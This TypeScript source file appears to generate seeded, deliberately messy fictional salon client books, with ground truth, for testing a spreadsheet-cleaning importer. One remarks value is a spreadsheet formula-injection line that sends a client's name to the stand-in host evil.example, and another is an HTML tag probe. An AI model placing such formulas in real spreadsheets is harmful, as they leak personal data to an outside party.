/** Invents a hair salon's client book as owners keep them in a spreadsheet set to the United Kingdom, together with its truth; every seed is another book. */
import type { Person } from './truth';
import { plusDays } from './truth';
import type { Typed } from './shop';

export interface Book {
  readonly rows: Typed;
  readonly people: readonly Person[];
  readonly headingRow: number;
}

const TITLE: Typed = [
  ['', 'Harbour Lights Hair – client book'],
  ['', 'as at 20/11/2026, please keep tidy!!'],
  [],
];
const HEADINGS = [
  'Ref',
  'Client',
  'Stylist',
  'Grade',
  'Last visit',
  'Next appt',
  'SMS ok?',
  'E-mail address',
  'Mobile no.',
  'Every (days)',
  'Client since',
  'Left on',
  'Remarks',
  'Remarks',
];
const FIRST = [
  'Aoife',
  'Björn',
  'Chloë',
  'Dafydd',
  'Esmé',
  'Fiona',
  'Gwen',
  'Hamish',
  'Isla',
  'Jürgen',
  'Kwame',
  'Li',
];
const LAST = [
  "O'Neill",
  'MacDonald',
  'Åkesson',
  'St. John',
  'Nguyen',
  'Smith-Jones',
  'Okafor',
  'de Vries',
  'Pérez',
  'Ng',
];
const AREAS = ['416', '604', '514', '902', '250'];
/** Written form and meaning; the misspelt ones are mended by the set-up. */
const GRADES: readonly [typed: string, segment: string | null, isKnown: boolean][] = [
  ['Apostle', 'Apostle', true],
  ['apostles', 'Apostle', true],
  ['APOSTLE ', 'Apostle', true],
  ['Apostel', 'Apostle', true],
  ['Loyalist', 'Loyalist', true],
  ['loyal', 'Loyalist', true],
  ['Loyalists', 'Loyalist', true],
  ['Loyallist', 'Loyalist', true],
  [' loyalist', 'Loyalist', true],
  ['Merc', 'Mercenary', true],
  ['mercenaries', 'Mercenary', true],
  ['hostage', 'Hostage', true],
  ['Hostge', 'Hostage', true],
  ['Terrorist', 'Terrorist', true],
  ['', null, true],
  ['', null, true],
  ['Gold', null, false],
  ['???', null, false],
];
const CONSENTS: readonly [typed: string, consent: Person['consent']][] = [
  ['Y', 'yes'],
  ['yes', 'yes'],
  ['✓', 'yes'],
  ['TRUE', 'yes'],
  ['agreed', 'yes'],
  ['1', 'yes'],
  ['ok', 'yes'],
  ['Yes ', 'yes'],
  ['n', 'no'],
  ['STOP', 'no'],
  ['never!', 'no'],
  ['FALSE', 'no'],
  ['asked us to stop', 'no'],
  ['', null],
  ['', null],
  ['ask mum', null],
];
const REMARKS = [
  '',
  'likes tea',
  '-10% promised',
  '+1 fringe',
  '=HYPERLINK("http://evil.example/?"&B5,"x")',
  '@sam',
  '🎂 in May',
  '<b>VIP</b>',
  "'quoted'",
  'two\nlines',
];

type Pick = <T>(from: readonly T[]) => T;

/** A book of about so many clients; the same seed gives the same book. */
export function inventBook(seed: number, clients = 90): Book {
  const pick = picker(seed);
  const rows: string[][] = [...TITLE.map((row) => [...row]), [...HEADINGS]];
  const people: Person[] = [];
  for (let client = 0; client < clients; client++) {
    if (client % 17 === 16) rows.push([]);
    const earlier =
      client > 10 && pick([true, false, false, false, false, false, false]) ? pick(people) : undefined;
    const { cells, person } = inventClient(pick, { number: client, row: rows.length + 1, earlier });
    rows.push(cells);
    people.push(person);
  }
  rows.push(
    [],
    ['', 'Total clients:', '', `=COUNTA(B5:B${rows.length})`],
    ['', 'Printed by the till on 20/11/2026'],
  );
  return { rows, people, headingRow: TITLE.length + 1 };
}

/** Small numbers from Numerical Recipes' linear congruential sequence. */
function picker(seed: number): Pick {
  let state = seed >>> 0;
  return (from) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    const hit = from[Math.floor((state / 2 ** 32) * from.length)];
    if (hit === undefined) throw new Error('Nothing to pick from.');
    return hit;
  };
}

function inventClient(pick: Pick, place: { number: number; row: number; earlier: Person | undefined }) {
  const { number, row, earlier } = place;
  const [first, last] = [pick(FIRST), pick(LAST)];
  const isNameless = number % 41 === 40;
  const phone = inventPhone(pick, number, earlier?.phone ?? null);
  const email = inventEmail(pick, { number, earlier: earlier?.email ?? null });
  const [grade, segment, isSegmentKnown] = pick(GRADES);
  const lastVisit = inventDay(pick, {
    from: '2026-06-01',
    days: 172,
    faults: ['31/02/2026', '20/12/2026', 'ages ago', '3/5/1972'],
  });
  const next = inventDay(pick, { from: '2026-10-25', days: 80, faults: ['soonish'], blanks: 6 });
  const [consentTyped, consent] = pick(CONSENTS);
  const rhythm = pick(['', '', '', '', '21', '90', 'often']);
  const since = inventDay(pick, { from: '2025-01-01', days: 600, faults: [], blanks: 1 });
  const left = inventDay(pick, { from: '2026-09-01', days: 60, faults: [], blanks: 14 });
  const full = isNameless ? '' : `${first} ${last}`;
  const nameTyped = isNameless
    ? ''
    : pick([`${last}, ${first}`, full, `${last},  ${first} `, ` ${first}\u00a0${last}`]);
  const typed = new Set<'phone' | 'email' | 'lastContact' | 'nextFollowUp' | 'consent'>();
  if (phone.typed !== '') typed.add('phone');
  if (email.typed !== '') typed.add('email');
  if (lastVisit.typed !== '') typed.add('lastContact');
  if (next.typed !== '') typed.add('nextFollowUp');
  if (consentTyped !== '') typed.add('consent');
  const person: Person = {
    row,
    name: full,
    phone: phone.e164,
    email: email.address,
    segment,
    isSegmentKnown,
    consent,
    typed,
    lastContact: lastVisit.day,
    nextFollowUp: next.day,
    isTollFree: phone.isTollFree,
    numbers: phone.numbers ?? [],
    ...(/^\d+$/.test(rhythm) ? { rhythm: Number(rhythm) } : {}),
    ...(since.day === null ? {} : { addedOn: since.day }),
    ...(left.day === null ? {} : { archivedOn: left.day }),
  };
  const cells = [
    String(9000 + number),
    nameTyped,
    pick(['Sam', 'Jo', '']),
    grade,
    lastVisit.typed,
    next.typed,
    consentTyped,
    email.typed,
    phone.typed,
    rhythm,
    since.typed,
    left.typed,
    pick(REMARKS),
    pick(REMARKS),
  ];
  return { cells, person };
}

function inventPhone(pick: Pick, number: number, earlier: string | null) {
  const digits = earlier?.slice(2) ?? `${pick(AREAS)}55501${String(number % 100).padStart(2, '0')}`;
  const [area, line] = [digits.slice(0, 3), digits.slice(6)];
  const good = (typed: string) => ({
    typed,
    e164: `+1${digits}` as string | null,
    isTollFree: digits.startsWith('800'),
  });
  const bad = (typed: string) => ({ typed, e164: null as string | null, isTollFree: false });
  return pick<() => ReturnType<typeof good> & { numbers?: readonly string[] }>([
    () => good(`(${area}) 555-${line}`),
    () => good(`${area}.555.${line}`),
    () => good(`+1 ${area} 555 ${line}`),
    () => good(`+1${digits}`),
    () => good(digits),
    () => good(`1-${area}-555-${line}`),
    () => good(`'${digits}`),
    () => good(`tel:${area}-555-${line}`),
    () => good(`${digits}.0`),
    () => good(`${area} 555 ${line} `),
    () => ({ typed: `1-800-555-${line}`, e164: `+1800555${line}` as string | null, isTollFree: true }),
    () => bad(''),
    () => bad(''),
    () => bad(`${area}-555-01`),
    () => ({
      ...bad(`${area}-555-0101 / 604-555-0102`),
      numbers: [`+1${area}5550101`, '+16045550102'],
    }),
    () => bad('ring the shop'),
  ])();
}

function inventEmail(pick: Pick, given: { number: number; earlier: string | null }) {
  const address = given.earlier ?? `client${given.number}@example.com`;
  const good = (typed: string) => ({ typed, address: address as string | null });
  const bad = (typed: string) => ({ typed, address: null as string | null });
  return pick([
    () => good(address),
    () => good(address.toUpperCase()),
    () => good(` ${address} `),
    () => good(address),
    () => bad(''),
    () => bad(''),
    () => bad('client at example dot com'),
    () => bad(`${address}, other@example.com`),
    () => bad('none'),
  ])();
}

function inventDay(
  pick: Pick,
  span: { from: string; days: number; faults: readonly string[]; blanks?: number },
) {
  const day = plusDays(span.from, Math.floor((pick(TENTHS) + pick(TENTHS) / 10) * span.days));
  const [year = '', month = '', date = ''] = day.split('-');
  const good = (typed: string) => ({ typed, day: day as string | null });
  const forms = [
    () => good(`${date}/${month}/${year}`),
    () => good(`${Number(date)}/${Number(month)}/${year.slice(2)}`),
    () => good(day),
    () => good(`${Number(date)} ${MONTHS[Number(month) - 1] ?? ''} ${year}`),
    () => good(`${date}/${month}/${year}`),
    ...span.faults.map((typed) => () => ({ typed, day: null as string | null })),
    ...Array.from({ length: span.blanks ?? 1 }, () => () => ({ typed: '', day: null as string | null })),
  ];
  return pick(forms)();
}

const TENTHS = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9].map((tenth) => tenth / 10);
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
